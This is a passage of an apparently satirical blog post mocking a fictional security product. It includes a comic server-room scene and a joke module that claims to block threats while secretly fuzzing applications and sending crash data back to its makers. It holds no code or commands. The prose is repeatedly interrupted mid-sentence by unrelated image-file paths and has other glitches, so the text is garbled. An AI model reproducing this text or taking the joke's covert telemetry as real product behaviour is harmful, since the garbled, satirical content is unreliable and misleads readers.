Systems guy stares at security guy.  Both of them are bathed in the noon-day flourescent light of the server room.  A single bead of sweat travels down the face of security guy.  Systems guy hasn't moved  His eyebrowtwitches, and the corner of his mouth pulls up in what he thinks is a smile.

"Prove it".

Security guy fakes being concerned briefly, argues with the systems guy and finally storms out.  He spends the next hour in the office watching Glee re-runs and then storms out.  He drags the systems guy into the "lab" and then fires up the his special, VRT supplied client app.  He types furiously while ancient arcane symbols float around the screen.  Briefly the systems guy thinks he sees a picture of his mother, but it happens too fast for him to be sure.

Finally,triumphantly, security guy points to the screen.  A beautiful, fully interactive shell sits ready.  With a little extra configuration, you can make it look just like his desktop.  This is the beauty of the SSEC system.  When patch day comes, no one will stand in your way, becauseyou are the supreme blackhat.

The final module is a favorite of the VRT and we'll be honest, it has little value for you, but it will make us super-duper happy.  The terminal will display a happy series of events, every now and then flashing "APT BLOCKED!!!!" in bigred letters.  Your boss will nod his head sagely, after all, he did sign the PO, and then tell you to take the rest of the day off.

Meanwhile, that sensor, along with every other sensor running our special "APT BLOCKED!!!" modulewould constantly be fuzzing an application of our choice.  Indeed, each time you saw "APT BLOCKED!!!" it is actually an indication that we had successfully crashed theapplication and had sent the information on the crash back to the VRT lair.  How could your soul NOT bewarmed by the knowledge that we reside, happy in our den, because you have given over your sensor to the fuzzing gods.

Well there you have it folks.  We know you Mac folks don't need securitysystems, so let's not waste those CPUcycles!  Feel free todownload the beta here